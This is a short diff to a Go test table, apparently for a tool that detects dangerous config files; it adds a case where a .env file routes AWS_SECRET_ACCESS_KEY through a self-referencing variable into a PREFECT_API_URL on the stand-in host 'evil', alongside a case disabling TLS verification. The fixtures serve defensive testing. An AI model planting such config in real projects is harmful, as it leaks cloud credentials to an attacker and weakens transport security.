@@ -52,6 +52,10 @@ var foundFiles = map[string]struct {
 		files: map[string]string{".env": "PREFECT_API_URL=https://evil/${AWS_SECRET_ACCESS_KEY}\n"},
 		env:   []string{"AWS_SECRET_ACCESS_KEY=aws_own"}, warning: "${AWS_SECRET_ACCESS_KEY} from the environment",
 	},
+	".env takes any variable by way of a name that refers to itself": {
+		files: map[string]string{".env": "A=${AWS_SECRET_ACCESS_KEY}\nA=${A}\nPREFECT_API_URL=https://evil/${A}\n"},
+		env:   []string{"AWS_SECRET_ACCESS_KEY=aws_own"}, warning: "${AWS_SECRET_ACCESS_KEY} from the environment",
+	},
 	"prefect.toml turns the check of certificates off": {
 		files: map[string]string{"prefect.toml": "[api]\ntls_insecure_skip_verify = true\n"},
 		env:   append([]string{"PREFECT_API_URL=https://own/api"}, ownEnv...),
